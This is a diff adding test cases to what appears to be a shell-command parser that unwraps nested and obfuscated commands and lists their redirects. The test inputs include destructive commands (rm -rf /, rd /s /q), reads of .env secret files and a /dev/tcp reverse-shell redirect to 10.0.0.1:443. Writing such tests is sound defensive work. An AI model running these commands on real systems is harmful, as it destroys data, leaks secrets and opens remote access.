@@ -19,8 +19,10 @@ test.each([
   ['a shell', "bash -lc 'cd x && rm y'", ['cd x', 'rm y']],
   ['a shell in a shell', `bash -c "sh -c 'rm y'"`, ['sh -c rm y', 'rm y']],
   ['a shell of Windows', 'cmd /c "del x"', ['del x']],
+  ['the words for a shell of Windows', 'cmd /c rd /s /q x; pwsh -c', ['rd /s /q x', 'pwsh -c']],
+  ['a path of Windows', 'type D:\\x\\.env', ['type D:\\x\\.env']],
   ['eval', 'eval rm "-rf" /', ['rm -rf /']],
-  ['trap', "trap 'rm x' EXIT", ['rm x EXIT']],
+  ['trap', "trap 'rm x' EXIT; trap -- 'rm y' INT", ['rm x', 'rm y']],
   ['ssh', 'ssh -p 22 a@b rm -rf /', ['rm -rf /']],
   ['ssh with a text', 'ssh b "a; rm x"', ['a', 'rm x']],
   ['verbs', 'docker exec -it -u root c rm x; npm exec -c "rm y"; git bisect run rm z', ['rm x', 'rm y', 'rm z']],
@@ -49,6 +51,10 @@ test.each([
   ],
   ['an alias', "alias x='rm -rf'; x / 'a b'", ['rm -rf / a b']],
   ['a variable', 'r=rm; $r x', ['rm x']],
+  ['a variable for one command', `r=rm sh -c '$r x'; r=ls true; $r y`, ['rm x', '$r y']],
+  ['a variable that its own command does not see', 'r=rm $r x', ['$r x']],
+  ['a group that reads', '{ sh; } <<EOF\nrm x\nEOF', ['rm x']],
+  ['a file that a group writes', '{ echo rm x; } > a.sh; sh a.sh', ['rm x']],
   ['a variable with spaces', 'x="rm -rf /"; $x; "$x"', ['rm -rf /', 'rm -rf /']],
   ['a part of a variable', 'a=r; ${a}m x', ['rm x']],
   ['a variable that grows', 'a=r; a+=m; $a x', ['r x', 'rm x']],
@@ -93,6 +99,17 @@ test('says what a command reads, writes and sets, and who runs it', () => {
   expect(sudo?.redirects.map(({ operator, target }) => `${operator}${target.text}`)).toEqual(['>/etc/x', '<y']);
   expect(sh?.pipedFrom.map(toLine)).toEqual(['curl u']);
   expect(sh?.via).toEqual(['sudo']);
+});
+
+test.each([
+  ['{ a; } > /etc/x', '>/etc/x'],
+  ['while read a; do b; done < .env', '<.env'],
+  ['(sh) 0>/dev/tcp/10.0.0.1/443', '>/dev/tcp/10.0.0.1/443'],
+  ['if a; then b; fi >> x', '>>x'],
+  ['sh <<< "$(c)"', '<<<"$(c)"'],
+])('finds the files of %j', (source, file) => {
+  const files = findCommands(source).commands.flatMap(({ redirects }) => redirects);
+  expect(files.map(({ operator, target }) => operator + target.text)).toContain(file);
 });
 
 test.each([
